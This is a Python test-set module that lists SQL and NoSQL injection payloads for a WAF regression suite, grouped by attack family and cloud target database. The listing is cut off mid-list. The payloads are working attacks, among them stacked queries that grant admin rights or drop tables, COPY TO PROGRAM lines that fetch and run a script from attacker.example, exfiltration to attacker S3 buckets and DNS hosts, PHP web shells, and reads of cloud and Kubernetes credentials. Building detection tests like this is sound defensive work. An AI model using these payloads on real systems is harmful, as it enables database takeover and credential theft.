"""Blind set "hundredninetyninth": SQL and NoSQL injection aimed at cloud-native, API-first back ends behind an
edge, with benign requests in which platform engineers type the same words innocently.

The angle: modern services, recalled from memory. JSON REST APIs and GraphQL resolvers that hand a variable to a
raw query, serverless functions (Lambda, Azure Functions, Cloud Functions) that concatenate an event field, ORMs
with raw-query escape hatches (Sequelize literal/query, TypeORM query builder strings, Prisma $queryRawUnsafe,
SQLAlchemy text(), Django extra()/raw()), Node/Express, Spring Boot, FastAPI and Go services, message and webhook
consumers (GitHub, GitLab, Stripe-style events) that write event fields into SQL, tenant and request-id headers
read into a WHERE clause, sort/filter/fields parameters pasted into ORDER BY and SELECT lists, and managed
databases (RDS/Aurora MySQL, RDS PostgreSQL, Azure SQL, Oracle, SQLite on the edge, ClickHouse, MongoDB Atlas,
CouchDB). Each group of payloads carries a comment naming its family, the service and the target database;
every payload is one a tester would really send against that target.

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, JSON of /api/users, the
admin search form with its csrf_token, an X-Tenant-ID header, a cookie, a parameter name, an XML body, a
multipart field, the URL path, User-Agent, Referer, X-Api-Version), once the way a WAF regression suite sends it
(placements prefixed "rs-"): to API paths that are not our routes (/api/v1/orders, /graphql, /v2/products/search,
/, /webhooks/stripe, /search, /api/v1/items, a Lambda invocation path) under API parameter names (filter, sort, q,
id, where, orderBy, fields, cursor), as a query string, JSON body, form body, XML body, raw form-typed body, in
X-Tenant-ID, User-Agent, Referer or a cookie. Whole JSON documents (nested filters, arrays, login bodies, GraphQL
requests with variables, webhook events) go as the JSON body of /api/users and, for the suite, of its own path,
of /graphql or of a webhook receiver; Express/qs bracket operators (`password[$ne]=x`) go as raw `name=value`
pairs; a few payloads only make sense in one header (X-Tenant-ID, X-Request-ID, X-Api-Key, Authorization) and go
there. Payloads with control characters never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family and of the
services named, and the detection titles alone; no WAF rule, engine source, ruleset regression test or public
payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Put, Record, header_safe, request
from .records import print_records

NAME = "hundredninetyninth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")   # a whole JSON document: /api/users, and the suite's own path
GQ = ("json-body", "rs-graphql")   # a GraphQL request (query and variables): /api/users, and /graphql
WH = ("json-body", "rs-webhook")   # a webhook event: /api/users, and a webhook receiver
KV = ("form", "rs-raw-body")   # a raw `name=value` form body (Express body-parser/qs)
TH = ("header:X-Tenant-ID", "rs-header:X-Tenant-ID")   # the tenant header a multi-tenant service reads
RH = ("header:X-Request-ID", "rs-header:X-Request-ID")   # the request id an audit logger inserts


def doc(value: Any) -> str:
    """A JSON document as an API client sends it (compact)."""
    return json.dumps(value, separators=(",", ":"), ensure_ascii=False)


def gql(query: str, variables: dict[str, Any]) -> str:
    """A GraphQL request: the operation and its variables."""
    return doc({"query": query, "variables": variables})


def basic(user: str, password: str) -> str:
    """An Authorization: Basic value."""
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: short token streams that leave a string or number literal and turn the WHERE clause around
LIBINJECTION: list[Entry] = [
    # Node/Express + mysql2, GET /api/orders?status=<x> concatenated into the WHERE clause; target MySQL 8
    "pending' or '1'='1",
    "pending' or 1=1-- -",
    "pending'or'1'='1'#",
    # Spring Boot JdbcTemplate, "... where id = " + id on a numeric path variable; target PostgreSQL 15
    "7 or 1=1",
    "7) or (1=1",
    "-7 or true",
    # FastAPI handler building SQLAlchemy text(f"... where slug = '{slug}'"); target PostgreSQL
    "docs' or 'x'='x",
    "docs'or''='",
    "docs' or true--",
    # Go service, fmt.Sprintf on the X-Tenant-ID header; target MySQL (Aurora)
    ("acme' or 1=1#", *TH),
    ("acme'||1#", *TH),
    # Sequelize sequelize.literal() search inside a Lambda function; target SQLite (bundled read replica)
    "%' or 1=1 or name like '%",
    "a' or 1=1 or 'b",
    # TypeORM createQueryBuilder().where(`email = '${email}'`); target PostgreSQL
    "x@example.org' or 1=1--",
    "x@example.org'or 1=1 limit 1--",
    # Prisma $queryRawUnsafe(`... WHERE sku = '${sku}'`); target MySQL
    "SKU-1' or 1=1 limit 1-- -",
    "SKU-1' or 'a'<>'b'-- -",
    # Django QuerySet.extra(where=["price < %s" % v]) on a numeric filter; target PostgreSQL
    "10 or 1=1",
    "10) or (select 1)=1--",
    # GraphQL resolver interpolating a variable into raw SQL; target PostgreSQL
    (gql("query($id: ID!){ order(id: $id){ id total } }", {"id": "1 or 1=1"}), *GQ),
    (gql("query($s: String){ products(search: $s){ id name } }", {"s": "x' or '1'='1"}), *GQ),
    # nested JSON filter object handed to knex.raw(); target MySQL
    (doc({"filter": {"status": "open' or 1=1-- -"}, "page": {"size": 20}}), *JB),
    (doc({"filters": [{"field": "region", "value": "eu' or '1'='1"}]}), *JB),
    # Stripe-style webhook consumer inserting the event id with string concatenation; target PostgreSQL
    (doc({"id": "evt_1' or 1=1--", "type": "invoice.paid", "data": {"object": {"id": "in_1"}}}), *WH),
    # JSON filter DSL that double-quotes values; target SQLite (double-quoted string literal)
    '" or 1=1--',
    # .NET minimal API on Azure SQL, string-built query on the order number; target SQL Server
    "ORD-9' or 1=1--",
    # Spring Data native query on an Oracle back end; target Oracle
    "x' or 1=1 or 'a'='",
    # ClickHouse analytics API, the event name pasted into WHERE; target ClickHouse
    "page_view' or 1=1--",
]

# sql-tautology/boolean: the always-true (or probe-true/false) condition that turns the WHERE clause
TAUTOLOGY: list[Entry] = [
    # Express + node-postgres, GET /api/projects?owner=<x> concatenated; target PostgreSQL
    "me' or 1=1--",
    "me' or 'a'='a'--",
    "me' or true or '",
    "me' or 2>1--",
    # Spring Boot native @Query built with String.format, boolean-blind pair on a numeric id; target PostgreSQL
    "1 and 1=1",
    "1 and 1=2",
    "1 and (select 1)=1",
    # FastAPI + SQLAlchemy text() boolean oracle; target PostgreSQL
    "1 and (select is_admin from users where id=1)=true",
    "x' and (select count(*) from api_keys)>0--",
    # Go + MySQL tenant filter in a JSON field
    "t1' or 'x' like 'x",
    "t1' or 1 rlike 1#",
    "t1' or not false#",
    # Sequelize where: sequelize.literal(`deleted_at is null and ${q}`); target SQLite
    "deleted_at is null or 1=1",
    # Prisma $queryRawUnsafe numeric limit/offset filter; target MySQL
    "1 or 1 between 0 and 2",
    # Django extra(where=[...]) with a raw condition fragment; target PostgreSQL
    "id>0 or true",
    # Azure Function HTTP trigger with a concatenated query; target SQL Server (Azure SQL)
    "x' or 1=1 or 'a'='b",
    "x' or 'a' in ('a')--",
    "x' or len('a')=1--",
    # Spring Data native query; target Oracle
    "x' or 1=1 and rownum=1--",
    "x' or 'a'||'b'='ab'--",
    # GraphQL variable into a raw query; target MySQL
    (gql("query($email: String!){ user(email: $email){ id role } }", {"email": "a' or 'x'='x"}), *GQ),
    # nested boolean JSON filter handed to knex.raw; target PostgreSQL
    (doc({"where": {"and": [{"team": "core' or 1=1--"}]}}), *JB),
    # GitHub push webhook consumer, the repository name concatenated; target MySQL
    (doc({"ref": "refs/heads/main", "repository": {"full_name": "org/app' or 1=1#"}}), *WH),
    # cursor parameter of a paginated API decoded as plain text; boolean-blind pair; target MySQL
    "abc' and 'a'='a'-- -",
    "abc' and 'a'='b'-- -",
    # Lambda authorizer looking up the X-Tenant-ID header; target PostgreSQL
    ("t-01' or 'a'='a", *TH),
    # ClickHouse events API; target ClickHouse
    "signup' or 1=1 or event='",
    # SQLite on an edge worker (D1-style) behind a search endpoint
    "x' or 1 is 1--",
]

# sql-comment-sequence: the rest of the statement (password check, tenant filter, LIMIT) cut with a comment
COMMENT: list[Entry] = [
    # Express + mysql login by email, the password clause cut off; target MySQL
    "admin@example.org'-- -",
    "admin@example.org'#",
    "admin@example.org'/*",
    # TypeORM raw query on PostgreSQL: line comment, block comment
    "ops@example.org'--",
    "ops@example.org'/* trailing */--",
    "1/**/or/**/1=1--",
    # Azure SQL behind a Functions app: comment after a terminated statement; target SQL Server
    "svc'--",
    "svc';--",
    # Spring Data native query, line comment ended by a newline; target Oracle
    "x' or 1=1--\n",
    # SQLite in a Lambda: an unterminated block comment is accepted at the end of input
    "a' or 1=1/*",
    # MySQL needs whitespace after "--": tab and newline work as well as a space
    "1' or 1=1--\t",
    "1' or 1=1-- \n",
    "1' or 1=1;#",
    # sort parameter pasted after ORDER BY, the tenant filter/LIMIT behind it commented out; target MySQL
    "created_at desc-- -",
    "created_at desc#",
    # Go service reading X-Tenant-ID into the WHERE clause; target MySQL
    ("acme'-- -", *TH),
    ("acme'#", *TH),
    # GraphQL variable in a raw resolver query; target PostgreSQL
    (gql("query($slug: String!){ page(slug: $slug){ title body } }", {"slug": "home'--"}), *GQ),
    # nested JSON filter handed to Prisma $queryRawUnsafe; target MySQL
    (doc({"filter": {"sku": "A1'/*"}, "fields": "id,name"}), *JB),
    # comments standing in for every space; target MySQL
    "'/**/or/**/'1'='1'/**/--/**/-",
    # PostgreSQL block comments nest
    "x' or 1=1 /* /* nested */ */--",
    # login forms of an admin API: quote, paren and double paren contexts; target SQL Server / MySQL
    "admin'--",
    "admin')--",
    "admin'))-- -",
    # GitLab webhook consumer, the branch name in a delete statement, the WHERE clause commented out; target MySQL
    (doc({"object_kind": "push", "ref": "refs/heads/x'#", "project": {"id": 7}}), *WH),
    # Oracle: comment after a closed parenthesis in a subquery filter
    "x')) or 1=1--",
    # ClickHouse: "--" and "#" are both comments
    "x' or 1=1 #",
]

# union-select: extra rows (secrets, tokens, cloud credentials) appended to what the API returns
UNION: list[Entry] = [
    # Express + mysql2 product search, two columns; target MySQL 8
    "x' union select 1,2-- -",
    "x' union select username,password from users-- -",
    "x' union all select null,@@version-- -",
    "-1 union select 1,group_concat(email,0x3a,password_hash) from users",
    # Spring Boot JdbcTemplate on a numeric id; target PostgreSQL
    "-1 union select null,current_user",
    "-1 union select id::text,token from api_tokens--",
    "0 union all select 1,string_agg(usename,',') from pg_user--",
    # FastAPI + SQLAlchemy text(); target PostgreSQL
    "x' union select null,version()--",
    "x' union select key,value from settings--",
    # Go service storing cloud credentials in the same MySQL schema
    "nope' union select access_key_id,secret_access_key from cloud_credentials-- -",
    # Django extra(select=...) on SQLite
    "x' union select name,sql from sqlite_master--",
    "0 union select sqlite_version(),2",
    # .NET API on Azure SQL; target SQL Server
    "x' union select null,@@version--",
    "x' union select name,password_hash from sys.sql_logins--",
    "-1 union all select top 1 connection_string,null from app_config--",
    # Spring Data native query; target Oracle
    "x' union select banner,null from v$version--",
    "x' union select username,password from dba_users--",
    # GraphQL resolver with the id variable in raw SQL; target PostgreSQL
    (gql("query($id: ID!){ invoice(id: $id){ number customer } }", {"id": "0 union select email,password from users"}),
     *GQ),
    # nested JSON filter handed to knex.raw; target MySQL
    (doc({"filter": {"category": "x' union select client_secret,2 from oauth_clients-- -"}}), *JB),
    # GitLab webhook consumer, project path concatenated; target MySQL
    (doc({"object_kind": "push", "project": {"path_with_namespace": "g/p' union select token,2 from runners-- -"}}),
     *WH),
    # ClickHouse analytics API; target ClickHouse
    "x' union all select name,engine from system.tables--",
    # case mixing, DISTINCT and parentheses instead of spaces; target MySQL
    "x' UnIoN SeLeCt 1,2,3-- -",
    "x' union distinct select 1,user()-- -",
    "x'union(select(1),(2))-- -",
    # tenant header read into the WHERE clause; target MySQL
    ("0' union select 1,@@hostname-- -", *TH),
    # fields= parameter pasted into the SELECT list, a second query glued on; target PostgreSQL
    "id,name from products union select usename,passwd from pg_shadow--",
    # Prisma $queryRawUnsafe, JSON body array of ids joined into IN (...); target PostgreSQL
    (doc({"ids": ["1", "2) union select token,null from sessions--"]}), *JB),
    # Oracle UNION against the session's privileges
    "x' union select privilege,null from session_privs--",
]

# stacked-queries: a second statement after ';' (drivers and ORMs that allow batches)
STACKED: list[Entry] = [
    # Express + mssql (tedious) runs batches; target SQL Server
    "1; drop table sessions--",
    "1'; update users set role='admin' where email='me@attacker.example'--",
    "1'; insert into api_keys(key_value,owner) values('k-attacker','attacker')--",
    # node-postgres simple query protocol runs several statements when no parameters are bound; target PostgreSQL
    "1; create role backdoor login superuser password 'p4ss'--",
    "x'; alter user app_user with superuser;--",
    "x'; copy (select '') to program 'curl -s http://attacker.example/x.sh | sh';--",
    # mysql driver with multipleStatements: true; target MySQL
    "1; update users set is_admin=1 where id=1337-- -",
    "x'; delete from audit_log;-- -",
    "x'; set global general_log=on;-- -",
    "x'; grant all on *.* to 'app'@'%';-- -",
    # Prisma $executeRawUnsafe; target PostgreSQL
    "0; truncate table events cascade--",
    # SQLAlchemy text() over psycopg2 (several statements allowed); target PostgreSQL
    "x'; update feature_flags set enabled=true;--",
    "x'; select pg_terminate_backend(pid) from pg_stat_activity;--",
    # Python Lambda using sqlite3 executescript(); target SQLite
    "x'; attach database '/tmp/x.db' as x;--",
    "x'; drop table users;--",
    # PL/SQL anonymous block built around the input; target Oracle
    "x'); execute immediate 'grant dba to app_user'; end;--",
    # GraphQL mutation variable into raw SQL; target SQL Server
    (gql("mutation($n: String!){ renameProject(name: $n){ id } }", {"n": "x'; update projects set owner_id=1;--"}),
     *GQ),
    # deployment webhook consumer; target PostgreSQL
    (doc({"action": "created", "deployment": {"environment": "prod'; drop table deployments;--"}}), *WH),
    # audit logger inserting X-Request-ID with string concatenation; target PostgreSQL
    ("r-1'); delete from audit_log;--", *RH),
    # SQL Server: stop the instance
    "1; shutdown with nowait--",
    # MySQL: new admin account through the batch
    "x'; insert into users(email,password,role) values('a@attacker.example',md5('x'),'admin');-- -",
    # SQL Server: shadow login
    "x'; create login shadow with password='P@ssw0rd!1';--",
    # PostgreSQL: rewrite a function the app calls
    "x'; create or replace function is_admin(int) returns bool as 'select true' language sql;--",
    # nested JSON sort object pasted into ORDER BY by a Go service; target MySQL (multiStatements=true)
    (doc({"sort": {"field": "id; update users set role='admin' where id=2", "dir": "asc"}}), *JB),
    # ClickHouse HTTP interface with multiquery enabled; target ClickHouse
    "x'; drop table events;--",
    # tenant header; target SQL Server
    ("t1'; drop table tenants;--", *TH),
    # SQLite: change the schema through the batch
    "x'; alter table users add column backdoor text;--",
    # MySQL: point a replica at a rogue primary
    "x'; change master to master_host='attacker.example';-- -",
]

# time-based-blind: the response time is the oracle (sleep/benchmark/pg_sleep/waitfor/dbms_pipe)
TIME: list[Entry] = [
    # Express + mysql2; target MySQL
    "1' and sleep(5)-- -",
    "1' or sleep(5)#",
    "1 and (select 1 from (select sleep(5))a)",
    "x' and if(substr(database(),1,1)='a',sleep(5),0)-- -",
    "1' and benchmark(5000000,sha1('x'))-- -",
    "x'||sleep(5)||'",
    # FastAPI / SQLAlchemy and node-postgres; target PostgreSQL
    "1; select pg_sleep(5)--",
    "1 and 1=(select 1 from pg_sleep(5))",
    "x'||pg_sleep(5)--",
    "x' and (select case when current_user='postgres' then pg_sleep(5) end) is null--",
    "1;select pg_sleep_for('5 seconds')--",
    # Azure SQL behind a Functions app; target SQL Server
    "1; waitfor delay '0:0:5'--",
    "x'; if (select count(*) from sys.databases)>3 waitfor delay '0:0:5'--",
    "x' waitfor delay '00:00:05'--",
    # Spring Data on Oracle
    "x' and 1=dbms_pipe.receive_message('a',5)--",
    "x'||dbms_pipe.receive_message(('a'),5)||'",
    # SQLite on an edge worker: heavy randomblob work instead of a sleep function
    "x' and 1=like('ABCDEFG',upper(hex(randomblob(300000000))))--",
    # ClickHouse events API; target ClickHouse
    "x' and sleep(3)=0--",
    # GraphQL variable; target MySQL
    (gql("query($id: ID!){ user(id: $id){ email } }", {"id": "1 and sleep(5)"}), *GQ),
    # nested JSON sort array pasted into ORDER BY; target MySQL
    (doc({"sort": [{"field": "name", "dir": "asc,(select sleep(5))"}]}), *JB),
    # tenant header; target MySQL
    ("t1' and sleep(5)-- -", *TH),
    # Stripe-style webhook consumer; target PostgreSQL
    (doc({"type": "customer.updated", "data": {"object": {"id": "cus_1'; select pg_sleep(5);--"}}}), *WH),
    # sort/orderBy parameter pasted after ORDER BY; targets MySQL and PostgreSQL
    "(select 1 from (select sleep(5))x)",
    "if(1=1,sleep(5),0)",
    "(select 1 from pg_sleep(5))",
    # audit logger inserting X-Request-ID; target SQL Server
    ("r-2'; waitfor delay '0:0:5'--", *RH),
    # MySQL boolean + time with the RDS master user name
    "x' and if(current_user() like 'admin%',sleep(5),0)-- -",
    # PostgreSQL conditional sleep on the tokens table
    "x' and (select case when count(*)>0 then pg_sleep(5) end from api_tokens) is null--",
]

# error-based: the database's error message (returned in the API's JSON error body) carries the data
ERROR: list[Entry] = [
    # Express + mysql2 that sends err.sqlMessage back in the 500 body; target MySQL
    "1' and extractvalue(1,concat(0x7e,version()))-- -",
    "1' and updatexml(1,concat(0x7e,(select user())),1)-- -",
    "1' and extractvalue(1,concat(0x7e,(select secret from webhooks limit 1)))-- -",
    "1 and (select 1 from(select count(*),concat(database(),floor(rand(0)*2))x from information_schema.tables "
    "group by x)a)",
    "1' and exp(~(select * from (select user())a))-- -",
    "1' and gtid_subset(concat(0x7e,@@hostname),1)-- -",
    # FastAPI with debug error bodies (psycopg2 message in the detail); target PostgreSQL
    "1 and 1=cast(version() as int)",
    "x' and 1=cast((select token from api_tokens limit 1) as integer)--",
    "x' and 1=(select current_database())::int--",
    "x' and 1=cast(pg_read_file('/var/run/secrets/kubernetes.io/serviceaccount/token') as int)--",
    # ASP.NET Core API on Azure SQL with detailed errors; target SQL Server
    "x' and 1=convert(int,@@version)--",
    "x' and 1=convert(int,(select top 1 name from sys.tables))--",
    "x' and 1=cast(db_name() as int)--",
    "1 and 1=convert(int,(select system_user))",
    "x' and 1=convert(int,(select string_agg(name,',') from sys.databases))--",
    # Spring Boot with server.error.include-message=always; target Oracle
    "x' and 1=ctxsys.drithsx.sn(1,(select user from dual))--",
    "x' and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--",
    "x' and 1=to_number((select user from dual))--",
    # SQLite in a Lambda: integer overflow as a conditional error
    "x' and 1=(case when substr(sqlite_version(),1,1)='3' then abs(-9223372036854775808) else 1 end)--",
    # GraphQL resolver whose errors[] carries the driver message; target MySQL
    (gql("query($id: ID!){ order(id: $id){ id } }", {"id": "1 and updatexml(1,concat(0x7e,database()),1)"}), *GQ),
    # nested JSON filter; target PostgreSQL
    (doc({"filter": {"owner": "x' and 1=cast(current_user as int)--"}}), *JB),
    # tenant header; target SQL Server
    ("t1' and 1=convert(int,db_name())--", *TH),
    # webhook consumer that logs and echoes the SQL error; target MySQL
    (doc({"event": "build.finished", "build": {"branch": "main' and extractvalue(1,concat(0x7e,user()))#"}}), *WH),
    # sort parameter after ORDER BY; target MySQL
    "updatexml(1,concat(0x7e,(select @@datadir)),1)",
    # PostgreSQL: a server setting leaked through a cast error
    "x' and 1=cast(current_setting('server_version') as int)--",
    # ClickHouse: throwIf turns a condition into an error
    "x' and throwIf(currentUser()='default')=0--",
    # Oracle XMLType parse error carries the value
    "x' and (select xmltype('<x:'||(select user from dual)||'>') from dual) is null--",
    # MySQL 8 JSON functions fail with the value in the message
    "1' and json_extract('[1]',concat('$',(select user())))-- -",
]

# out-of-band: the database reaches out (DNS, HTTP, SMB, S3, Lambda) or writes/reads files for the attacker
OOB: list[Entry] = [
    # MySQL in a container: read the Kubernetes service-account token and the environment
    "x' union select load_file('/var/run/secrets/kubernetes.io/serviceaccount/token'),2-- -",
    "x' union select load_file('/proc/self/environ'),2-- -",
    # MySQL on a Windows host: UNC path lookup leaks the value over DNS
    r"1' and load_file(concat('\\\\',(select password from users limit 1),'.oob.attacker.example\\a'))-- -",
    # MySQL: web shell for the PHP admin container sharing the volume
    "x' union select '<?php system($_GET[0]);?>',2 into outfile '/var/www/html/s.php'-- -",
    # Aurora MySQL: export straight to an attacker's S3 bucket
    "x' union select email,password from users into outfile s3 's3://attacker-bucket/dump'-- -",
    # Aurora MySQL: invoke a Lambda function with the data
    "x'; call mysql.lambda_async('arn:aws:lambda:us-east-1:123456789012:function:exfil',"
    "concat('{\"d\":\"',user(),'\"}'));-- -",
    # Aurora MySQL: load attacker rows from S3
    "x'; load data from s3 's3://attacker-bucket/users.csv' into table users;-- -",
    # SQL Server: UNC path lookups (DNS/SMB to the attacker)
    r"x'; exec master..xp_dirtree '\\oob.attacker.example\share';--",
    r"x'; declare @h varchar(99)=(select top 1 name from sys.databases);"
    r"exec('master..xp_dirtree ''\\'+@h+'.oob.attacker.example\a''');--",
    r"x'; exec master..xp_fileexist '\\oob.attacker.example\x';--",
    r"x'; select * from openrowset(bulk '\\oob.attacker.example\s\f', single_clob) as x;--",
    # Oracle: HTTP and DNS callouts
    "x' and utl_http.request('http://oob.attacker.example/'||(select user from dual)) is not null--",
    "x' and 1=(select utl_inaddr.get_host_address((select user from dual)||'.oob.attacker.example') from dual)--",
    "x' union select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
    "\"http://oob.attacker.example/\">%x;]>'),'/l'),null from dual--",
    "x' and httpuritype('http://oob.attacker.example/'||user).getclob() is not null--",
    # Oracle on a cloud VM: the instance metadata service through UTL_HTTP
    "x' union select utl_http.request('http://169.254.169.254/latest/meta-data/iam/security-credentials/'),null "
    "from dual--",
    # PostgreSQL: dblink to an attacker's server, COPY TO PROGRAM, large-object file read
    "x'; select dblink_connect('host=oob.attacker.example user=a password=b dbname='||current_user);--",
    "x'; copy (select token from api_tokens) to program 'curl -d @- http://oob.attacker.example';--",
    "x'; do $$ begin execute 'copy (select 1) to program ''nslookup '||current_user||'.oob.attacker.example''';"
    " end $$;--",
    "x' and (select lo_import('/var/run/secrets/kubernetes.io/serviceaccount/token')) is not null--",
    # RDS PostgreSQL: export a query to the attacker's bucket with aws_s3
    "x'; select * from aws_s3.query_export_to_s3('select * from users',"
    "aws_commons.create_s3_uri('attacker-bucket','u.csv','us-east-1'));--",
    # GraphQL variable; target SQL Server
    (gql("query($id: ID!){ file(id: $id){ name } }",
         {"id": r"1; exec master..xp_dirtree '\\gql.oob.attacker.example\a'--"}),
     *GQ),
    # nested JSON filter; target MySQL
    (doc({"filter": {"path": "x' union select load_file('/etc/passwd'),2-- -"}}), *JB),
    # webhook consumer; target PostgreSQL
    (doc({"event": "object.created",
          "object": {"key": "a'; copy (select '') to program 'wget -q oob.attacker.example';--"}}),
     *WH),
    # tenant header; target Oracle
    ("t1' and utl_http.request('http://oob.attacker.example/t') is not null--", *TH),
    # ClickHouse: url() table function reaches out over HTTP
    "x' union all select * from url('http://oob.attacker.example/c','CSV','a String')--",
    # SQLite: attach a file as a new database and write a PHP page with it
    "x'; attach database '/var/www/html/s.php' as s; create table s.t(c text);"
    " insert into s.t values('<?php system($_GET[0]);?>');--",
]

# information-schema/catalog probing: the table, column and account lists of the back end
CATALOG: list[Entry] = [
    # Express + mysql2; target MySQL
    "x' union select table_name,2 from information_schema.tables where table_schema=database()-- -",
    "x' union select column_name,2 from information_schema.columns where table_name='users'-- -",
    "1 and (select count(*) from information_schema.tables)>0",
    "x' union select group_concat(schema_name),2 from information_schema.schemata-- -",
    "x' union select table_name,2 from mysql.innodb_table_stats-- -",
    "x' union select table_name,2 from sys.schema_table_statistics-- -",
    "x' union select user,authentication_string from mysql.user-- -",
    # FastAPI / Spring Boot; target PostgreSQL
    "x' union select table_name,null from information_schema.tables where table_schema='public'--",
    "x' union select tablename,null from pg_catalog.pg_tables--",
    "x' union select column_name,data_type from information_schema.columns where table_name='api_keys'--",
    "x' and (select count(*) from pg_namespace)>0--",
    "x' union select usename,passwd from pg_shadow--",
    "x' union select datname,null from pg_database--",
    # .NET API on Azure SQL; target SQL Server
    "x' union select name,null from sys.tables--",
    "x' union select table_name,column_name from information_schema.columns--",
    "x' union select name,null from master..sysdatabases--",
    "x' and 1=(select count(*) from sysobjects where xtype='U')--",
    # Spring Data; target Oracle
    "x' union select table_name,null from all_tables--",
    "x' union select column_name,null from all_tab_columns where table_name='USERS'--",
    "x' union select owner,table_name from all_tables where rownum<50--",
    # SQLite in a Lambda or on an edge worker
    "x' union select tbl_name,sql from sqlite_master where type='table'--",
    "x' union select name,null from pragma_table_info('users')--",
    "x' union select name,null from sqlite_schema--",
    # ClickHouse analytics API
    "x' union all select name,type from system.columns where table='users'--",
    # CockroachDB (Postgres wire) behind a Go service
    "x' union select table_name,null from crdb_internal.tables--",
    # GraphQL variable; target PostgreSQL
    (gql("query($q: String){ search(q: $q){ title } }",
         {"q": "x' union select table_name,null from information_schema.tables--"}),
     *GQ),
    # nested JSON filter; target MySQL
    (doc({"filter": {"team": "x' and (select count(*) from information_schema.columns "
                             "where column_name like '%secret%')>0-- -"}}),
     *JB),
    # tenant header; target MySQL
    ("t1' union select table_schema,table_name from information_schema.tables-- -", *TH),
]

# mysql-comment-obfuscation: MySQL executable/version comments and comment-for-space tricks around keywords
MYCOMMENT: list[Entry] = [
    # Express + mysql2 product API; target MySQL 5.7/8.0
    "1'/*!50000union*//*!50000select*/1,2-- -",
    "1'/*!union*//*!select*/user(),2-- -",
    "1' /*!12345UNION SELECT*/ 1,@@version-- -",
    "1'/**/union/**/select/**/1,2/**/from/**/users-- -",
    "1'/*!or*/1=1-- -",
    "admin'/*!and*/'1'='1",
    "-1/*!50000union*/all/*!50000select*/1,group_concat(table_name)/*!from*/information_schema.tables",
    "1'/*!80000or*/sleep(5)-- -",
    "1'/*x*/or/*x*/1=1#",
    "1'\nunion\nselect\n1,2#",
    "1'/*!00000union*/select 1,2-- -",
    "1'/*!union*/distinct/*!select*/1,2-- -",
    "'/*!50000or*/'1'='1",
    "1'/*!50000and*/extractvalue(1,concat(0x7e,user()))-- -",
    # a line comment ended by a newline hides the rest of the keyword stream from a single-line filter
    "1'-- x\nunion select 1,2-- -",
    "1'#\nunion select 1,2#",
    # MariaDB-only executable comment (SkySQL/RDS MariaDB)
    "1'/*M!100100union*/select 1,version()-- -",
    "1'/*!UNION*/(/*!SELECT*/1,2)-- -",
    "1'/*!50000UnIoN*//*!50000SeLeCt*/1,2-- -",
    "1'/*!order*//*!by*/3-- -",
    "-1'/*!50000union*/select/*!50000schema_name*/,2/*!from*/information_schema.schemata-- -",
    "x'/*!50000or*/(select 1 from dual where 1=1)-- -",
    # Go service on Aurora MySQL, the tenant header; target MySQL
    ("t1'/*!50000or*/1=1-- -", *TH),
    # GraphQL variable through Prisma $queryRawUnsafe; target MySQL
    (gql("query($c: String){ coupons(code: $c){ id } }",
         {"c": "x'/*!50000union*//*!50000select*/code,2 from coupons-- -"}),
     *GQ),
    # nested JSON filter handed to knex.raw; target MySQL
    (doc({"filter": {"brand": "x'/**/or/**/1=1/**/#"}}), *JB),
    # webhook consumer; target MySQL
    (doc({"event": "issue.opened", "issue": {"title": "x'/*!50000union*/select/**/token,2/**/from/**/bots#"}}), *WH),
    # sort parameter after ORDER BY; target MySQL
    "id/*!50000,*/(select/**/1/**/from/**/(select/**/sleep(5))a)",
    # keyword split over executable comments of different versions
    "1'/*!40000union*//*!40000all*//*!40000select*/1,2-- -",
]

# function-based-probing: one character or property at a time (substring/ascii/char/concat/length)
FUNCTION: list[Entry] = [
    # Express + mysql2; target MySQL
    "1' and ascii(substring(database(),1,1))>96-- -",
    "1' and substring(@@version,1,1)='8'-- -",
    "1' and ord(mid(user(),1,1))=114-- -",
    "1' and length(database())=6-- -",
    "1' and char(97,100,109,105,110)=(select username from users limit 1)-- -",
    "x' and concat(0x61,0x62)='ab'-- -",
    "1' and left((select password from users where username='admin'),1)='$'-- -",
    # FastAPI / node-postgres; target PostgreSQL
    "1 and ascii(substr(current_user,1,1))>100",
    "x' and substr(version(),1,10)='PostgreSQL'--",
    "x' and chr(65)||chr(66)='AB'--",
    "x' and length(current_database())>3--",
    "x' and (select substring(token,1,1) from api_tokens limit 1)='a'--",
    # .NET API on Azure SQL; target SQL Server
    "x' and ascii(substring(db_name(),1,1))>64--",
    "x' and unicode(substring(system_user,1,1))=115--",
    "x' and char(115)+char(97)=system_user--",
    "x' and len(@@servername)>0--",
    # Spring Data; target Oracle
    "x' and ascii(substr((select user from dual),1,1))>64--",
    "x' and chr(83)||chr(89)||chr(83)=(select user from dual)--",
    "x' and length((select banner from v$version where rownum=1))>10--",
    # SQLite in a Lambda
    "x' and substr(sqlite_version(),1,1)='3'--",
    "x' and unicode(substr((select name from sqlite_master limit 1),1,1))>96--",
    # ClickHouse
    "x' and substring(version(),1,2)='23'--",
    # GraphQL variable; target MySQL
    (gql("query($id: ID!){ user(id: $id){ email } }",
         {"id": "1 and mid((select password from users limit 1),1,1)='a'"}),
     *GQ),
    # nested JSON filter; target PostgreSQL
    (doc({"filter": {"owner": "x' and ascii(substr((select passwd from pg_shadow limit 1),1,1))>64--"}}), *JB),
    # tenant header; target MySQL
    ("t1' and substr(current_user(),1,4)='root'-- -", *TH),
    # webhook consumer; target SQL Server
    (doc({"event": "ping", "hook": {"name": "x' and substring(@@version,1,9)='Microsoft'--"}}), *WH),
    # sort parameter pasted after ORDER BY; target MySQL
    "if(ascii(substr(user(),1,1))>100,name,id)",
    # concat-based probe of the secret column length; target MySQL
